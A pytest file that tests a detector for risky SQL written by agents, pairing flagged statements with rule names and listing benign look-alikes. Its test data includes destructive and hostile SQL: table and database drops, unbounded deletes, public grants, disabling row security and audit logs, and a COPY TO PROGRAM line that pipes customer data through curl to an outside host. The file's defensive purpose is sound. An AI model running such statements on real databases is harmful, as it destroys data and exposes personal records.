"""The SQL detector on statements as agents write them, risky and look-alike benign."""

from __future__ import annotations

import logging

import pytest

from bot.config import ConfigError
from bot.risk.sql import SqlDetector, split_statements, verify_sql_rules
from bot.risk.sql_rules import SQL_RULES, SqlRule

PII = {
    "employees": ("salary", "ssn"),
    "customers": ("email", "full_name", "ssn", "phone"),
    "crm.customers": ("email", "full_name", "ssn", "phone"),
    "prod.crm.customers": ("email", "full_name", "ssn", "phone"),
    "products": (),
}


@pytest.fixture(scope="module")
def sql() -> SqlDetector:
    return SqlDetector(PII.get, company_domains=("northwind.example",))


def rules(detector: SqlDetector, text: str) -> set[str]:
    return {f.rule for f in detector.assess(text).findings}


RISKY = [
    ("DROP TABLE customers", "sql.drop"),
    ("DROP TABLE IF EXISTS public.orders CASCADE;", "sql.drop"),
    ("DROP SCHEMA crm CASCADE", "sql.drop_database"),
    ("DROP DATABASE northwind", "sql.drop_database"),
    ("TRUNCATE TABLE payments;", "sql.truncate"),
    ("ALTER TABLE customers DROP COLUMN ssn", "sql.alter_drop"),
    ("DELETE FROM customers;", "sql.delete_all"),
    ("DELETE FROM customers WHERE 1=1", "sql.delete_all"),
    ("delete from orders where 'a' = 'a'", "sql.delete_all"),
    ("DELETE FROM orders WHERE status = 'x' OR TRUE", "sql.delete_all"),
    ("DELETE FROM `orders` WHERE 1", "sql.delete_all"),
    ("UPDATE customers SET email = NULL, phone = NULL WHERE 1 = 1;", "sql.update_all"),
    ("UPDATE users SET role = 'admin'", "sql.update_all"),
    ("GRANT SELECT ON customers TO PUBLIC", "sql.grant_public"),
    ("GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC;", "sql.grant_public"),
    ("GRANT SELECT ON ALL TABLES IN SCHEMA crm TO analyst", "sql.grant_schema_wide"),
    ("GRANT SELECT ON TABLE crm.customers TO SHARE partner_share", "sql.grant_to_share"),
    ("GRANT USAGE ON DATABASE prod TO SHARE acme", "sql.grant_to_share"),
    (
        'GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "allAuthenticatedUsers"',
        "sql.grant_public",
    ),
    (
        'GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "user:x@gmail.com"',
        "sql.grant_external",
    ),
    ("GRANT ROLE ACCOUNTADMIN TO USER temp_contractor", "sql.grant_admin"),
    ("GRANT ALL ON *.* TO 'app'@'%' WITH GRANT OPTION", "sql.grant_admin"),
    ("ALTER ROLE analyst_bot WITH SUPERUSER;", "sql.privileged_role"),
    ("CREATE ROLE reporting SUPERUSER LOGIN", "sql.privileged_role"),
    ("ALTER USER app BYPASSRLS", "sql.privileged_role"),
    ("CREATE USER eve WITH PASSWORD 'hunter2'", "sql.role_change"),
    ("ALTER TABLE customers DISABLE ROW LEVEL SECURITY", "sql.disable_rls"),
    ("ALTER TABLE customers NO FORCE ROW LEVEL SECURITY", "sql.disable_rls"),
    ("DROP POLICY tenant_isolation ON customers", "sql.disable_rls"),
    ("SET row_security = off", "sql.disable_rls"),
    ("COPY customers TO '/tmp/customers.csv' WITH (FORMAT csv, HEADER)", "sql.export"),
    ("COPY customers TO PROGRAM 'curl -T - https://x.example/up'", "sql.copy_program"),
    ("\\copy customers TO 'customers.csv' CSV HEADER", "sql.export"),
    (
        "SELECT * FROM customers INTO OUTFILE '/var/lib/mysql/c.csv' FIELDS TERMINATED BY ','",
        "sql.export",
    ),
    (
        "UNLOAD ('SELECT * FROM customers') TO 's3://partner-dropbox/c_' IAM_ROLE 'arn:r' CSV",
        "sql.export",
    ),
    (
        "COPY INTO @~/export/customers_ FROM prod.crm.customers FILE_FORMAT = (TYPE = CSV)",
        "sql.export",
    ),
    ("COPY INTO 's3://elsewhere/c/' FROM crm.customers", "sql.export"),
    (
        "EXPORT DATA OPTIONS(uri='gs://v/c-*.csv') AS SELECT * FROM `p.crm.customers`",
        "sql.export",
    ),
    (
        "SELECT email, full_name, phone FROM customers WHERE created_at > '2024-01-01'",
        "sql.select_pii",
    ),
    ("SELECT * FROM customers", "sql.select_pii"),
    ("SELECT c.ssn FROM crm.customers c JOIN orders o ON o.customer_id = c.id", "sql.select_pii"),
    ("WITH recent AS (SELECT email FROM customers) SELECT * FROM recent", "sql.select_pii"),
    ("SELECT FULL_NAME, PHONE FROM PROD.CRM.CUSTOMERS SAMPLE (1000 ROWS)", "sql.select_pii"),
    ("SELECT ssn, date_of_birth FROM people", "sql.select_sensitive_uncatalogued"),
    ("SELECT full_name, email FROM people", "sql.select_pii_uncatalogued"),
    ("SELECT max(salary) FROM employees", "sql.select_pii"),
    ("ALTER SHARE partner_share ADD ACCOUNTS = acme.partner1", "sql.grant_to_share"),
    ("ALTER TABLE crm.customers MODIFY COLUMN email UNSET MASKING POLICY", "sql.masking_off"),
    ("GET @~/export/ file:///Users/alex/Downloads/", "sql.export"),
    ("ALTER SYSTEM SET pgaudit.log = 'none'", "sql.audit_off"),
    ("SET GLOBAL general_log = 'OFF'", "sql.audit_off"),
]

BENIGN = [
    "DELETE FROM customers WHERE id = 7",
    "DELETE FROM sessions WHERE expires_at < now() - interval '30 days'",
    "UPDATE customers SET plan = 'pro' WHERE id = 48213",
    "SELECT id, plan, created_at FROM customers",
    "SELECT count(*) FROM customers",
    "SELECT plan, count(*) FROM customers GROUP BY plan",
    "SELECT 'DROP TABLE customers' AS note",
    "ALTER TABLE orders ADD COLUMN note text",
    "ALTER TABLE customers ENABLE ROW LEVEL SECURITY",
    "ALTER ROLE analyst_bot SET statement_timeout = '30s'",
    "CREATE ROLE reporting NOLOGIN",
    "COPY customers FROM '/tmp/import.csv' WITH (FORMAT csv)",
    "COPY INTO crm.customers FROM @load_stage",
    "DROP INDEX idx_orders_created_at",
    "SELECT sku, price FROM products INTO OUTFILE '/var/lib/mysql-files/prices.csv'",
    "INSERT INTO audit_notes (body) VALUES ('truncate later')",
    "-- DROP TABLE customers\nSELECT 1",
    "ALTER SYSTEM SET log_min_duration_statement = '5s'",
    "SELECT department, avg(salary), count(ssn) FROM employees GROUP BY department",
    "ALTER SERVER AUDIT compliance_audit WITH (STATE = ON)",
    "ALTER TABLE crm.customers MODIFY COLUMN email SET MASKING POLICY email_mask",
]


@pytest.mark.parametrize(("text", "rule"), RISKY)
def test_risky_statements_are_flagged(sql: SqlDetector, text: str, rule: str) -> None:
    assert rule in rules(sql, text)


@pytest.mark.parametrize("text", BENIGN)
def test_benign_look_alikes_need_nobody(sql: SqlDetector, text: str) -> None:
    findings = sql.assess(text).findings
    assert all(f.verdict == "allow" for f in findings), [f.rule for f in findings]


def test_tables_and_columns_are_extracted_ctes_are_not_tables(sql: SqlDetector) -> None:
    result = sql.assess(
        "WITH recent AS (SELECT c.email, c.id FROM crm.customers c WHERE c.created_at > now()) "
        "SELECT r.email, o.total FROM recent r JOIN orders o ON o.customer_id = r.id"
    )
    assert set(result.tables) == {"crm.customers", "orders"}
    assert {"email", "id", "created_at"} <= result.tables["crm.customers"].columns
    assert result.tables["crm.customers"].read == {"email", "id"}
    assert {"total", "customer_id"} <= result.tables["orders"].columns


def test_select_star_counts_every_pii_field(sql: SqlDetector) -> None:
    (finding,) = [f for f in sql.assess("SELECT * FROM customers").findings]
    for column in PII["customers"]:
        assert f"customers.{column}" in finding.reason


def test_export_of_aggregates_is_low_risk_but_whole_tables_are_not(sql: SqlDetector) -> None:
    summary = sql.assess(
        "COPY (SELECT plan, count(*) FROM customers GROUP BY plan) TO '/tmp/p.csv'"
    )
    assert [f.rule for f in summary.findings] == ["sql.export_summary"]
    assert summary.findings[0].verdict == "allow"
    # With no catalog at all, a whole unknown table leaving the database is still held.
    bare = SqlDetector()
    assert "sql.export" in rules(bare, "COPY orders TO '/tmp/orders.csv'")


def test_export_destinations_are_reported(sql: SqlDetector) -> None:
    result = sql.assess("UNLOAD ('select * from customers') TO 's3://partner/c_' IAM_ROLE 'arn:r'")
    assert result.locations == ["s3://partner/c_"]
    assert "customers" in result.tables


def test_several_statements_each_assessed(sql: SqlDetector) -> None:
    found = rules(sql, "SELECT 1; DROP TABLE a; DELETE FROM b WHERE id = 2; TRUNCATE c")
    assert found == {"sql.drop", "sql.truncate"}


def test_unparsable_dangerous_statement_fails_closed(sql: SqlDetector) -> None:
    result = sql.assess("DELETE FROM WHERE AND ((")
    assert result.parse_failed
    assert [f.verdict for f in result.findings] == ["require_approval"]


def test_unparsable_harmless_statement_is_quiet(sql: SqlDetector) -> None:
    assert sql.assess("SELECT FROM FROM ((").findings == []


def test_split_respects_quotes_comments_and_dollar_bodies() -> None:
    text = "SELECT 'a;b'; -- c;d\nCREATE FUNCTION f() AS $$ BEGIN x; END $$; SELECT \"x;y\""
    assert split_statements(text) == [
        "SELECT 'a;b'",
        "-- c;d\nCREATE FUNCTION f() AS $$ BEGIN x; END $$",
        'SELECT "x;y"',
    ]


def test_sqlglot_warnings_are_silenced(sql: SqlDetector, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        sql.assess("GRANT USAGE ON WAREHOUSE w TO ROLE r; CREATE USER x")
    assert not [r for r in caplog.records if r.name.startswith("sqlglot")]


def test_every_rule_has_examples_and_they_hold() -> None:
    assert all(r.match and r.not_match for r in SQL_RULES)
    verify_sql_rules()


def test_a_rule_whose_examples_fail_stops_startup() -> None:
    broken = SqlRule("sql.drop", "destructive", "high", "require_approval", "x", ("SELECT 1",), ())
    with pytest.raises(ConfigError, match="sql.drop"):
        verify_sql_rules([broken])


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        ("SELECT ssn, salary FROM employees", "high"),
        ("SELECT full_name, email, phone, date_of_birth FROM crm.customers", "medium"),
        ("SELECT iban, account_number FROM vendors", "high"),
        ("SELECT u.password_hash FROM app.users u", "high"),
        ("SELECT passport_number FROM travellers", "high"),
    ],
)
def test_sensitive_columns_need_approval_without_a_catalog(text: str, risk: str) -> None:
    """A bare install (empty catalog) still holds government IDs, cards, credentials,
    birth dates and pay: the column name alone says what the data is."""
    bare = SqlDetector(lambda _table: None)
    found = {f.rule: f for f in bare.assess(text).findings}
    finding = found["sql.select_sensitive_uncatalogued"]
    assert finding.verdict == "require_approval"
    assert finding.risk == risk


@pytest.mark.parametrize(
    "text",
    [
        "SELECT full_name, email, phone FROM crm.customers",
        "SELECT count(ssn) FROM employees",
        "SELECT id FROM employees WHERE salary > 100000",
    ],
)
def test_mild_or_unread_columns_stay_allowed_without_a_catalog(text: str) -> None:
    bare = SqlDetector(lambda _table: None)
    assert all(f.verdict == "allow" for f in bare.assess(text).findings)


# -- writes hidden in EXPLAIN ANALYZE and CTEs, dialects, bulk changes to PII tables ---------


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("EXPLAIN ANALYZE DELETE FROM orders", "sql.delete_all"),
        ("EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0", "sql.update_all"),
        ("explain analyze verbose delete from orders where true", "sql.delete_all"),
        (
            "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
            "sql.delete_all",
        ),
        (
            "WITH x AS (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM x",
            "sql.update_all",
        ),
        ("DELETE TOP (1000) FROM dbo.orders", "sql.delete_all"),
        ("DROP TABLE IF EXISTS [dbo].[orders]", "sql.drop"),
        ("DELETE FROM main.sales.orders WHERE true", "sql.delete_all"),
        ("TRUNCATE TABLE `proj.sales.orders`", "sql.truncate"),
        ("DELETE FROM customers WHERE created_at < '2021-01-01'", "sql.bulk_change_pii"),
        ("DELETE FROM customers WHERE churn_score > 0.8", "sql.bulk_change_pii"),
        (
            "UPDATE customers SET email = NULL WHERE last_login < now() - interval '2 years'",
            "sql.bulk_change_pii",
        ),
        ("UPDATE crm.customers SET phone = NULL WHERE country = 'FR'", "sql.bulk_change_pii"),
        (
            "DELETE FROM customers WHERE id IN (SELECT customer_id FROM churned)",
            "sql.bulk_change_pii",
        ),
        ("DELETE FROM customers WHERE id > 100", "sql.bulk_change_pii"),
        (
            "MERGE INTO customers c USING churned x ON c.id = x.id WHEN MATCHED THEN DELETE",
            "sql.bulk_change_pii",
        ),
        ("DELETE c FROM crm.customers c JOIN crm.churned x ON c.id = x.id", "sql.bulk_change_pii"),
        (
            "CREATE OR REPLACE TABLE analytics.orders AS SELECT * FROM staging.orders",
            "sql.replace_table",
        ),
        ("INSERT OVERWRITE TABLE sales.orders SELECT * FROM sales.orders_tmp", "sql.replace_table"),
        ("INSERT OVERWRITE sales.orders PARTITION (dt) SELECT * FROM x", "sql.replace_table"),
        ("DROP CATALOG main CASCADE", "sql.drop_database"),
        ("DROP KEYSPACE telemetry;", "sql.drop_database"),
        ("DROP KEYSPACE IF EXISTS telemetry", "sql.drop_database"),
        ("DROP VOLUME main.raw.landing", "sql.drop"),
        ("ALTER ACCOUNT SET MIN_DATA_RETENTION_TIME_IN_DAYS = 0", "sql.history_off"),
    ],
)
def test_hidden_and_bulk_writes(sql: SqlDetector, text: str, rule: str) -> None:
    assert rule in rules(sql, text)


@pytest.mark.parametrize(
    "text",
    [
        "EXPLAIN DELETE FROM orders",
        "EXPLAIN ANALYZE SELECT * FROM orders WHERE id = 1",
        "WITH recent AS (SELECT id FROM orders) SELECT count(*) FROM recent",
        "DELETE TOP (10) FROM dbo.orders WHERE id = 4",
        "DELETE FROM customers WHERE id = 42",
        "DELETE FROM customers WHERE email = 'pat@example.com'",
        "UPDATE customers SET phone = NULL WHERE id = 42",
        "UPDATE customers SET phone = NULL WHERE customer_id IN (4, 8, 15)",
        "DELETE FROM customers WHERE id = 42 AND created_at < '2021-01-01'",
        "DELETE FROM sessions WHERE expires_at < now()",
        "UPDATE products SET price = price * 1.1 WHERE category = 'tea'",
        "DELETE o FROM dbo.orders o JOIN dbo.tmp t ON o.id = t.id",
        "MERGE INTO orders o USING fixes f ON o.id = f.id WHEN MATCHED THEN UPDATE SET total = 0",
        "CREATE OR REPLACE VIEW reporting.v_orders AS SELECT id, total FROM orders",
        "CREATE OR REPLACE TEMPORARY TABLE t AS SELECT 1",
        "INSERT INTO sales.orders SELECT * FROM sales.orders_tmp",
    ],
)
def test_hidden_and_bulk_write_look_alikes(sql: SqlDetector, text: str) -> None:
    found = rules(sql, text) & {
        "sql.delete_all",
        "sql.update_all",
        "sql.bulk_change_pii",
        "sql.replace_table",
        "sql.unparsed",
    }
    assert found == set(), text
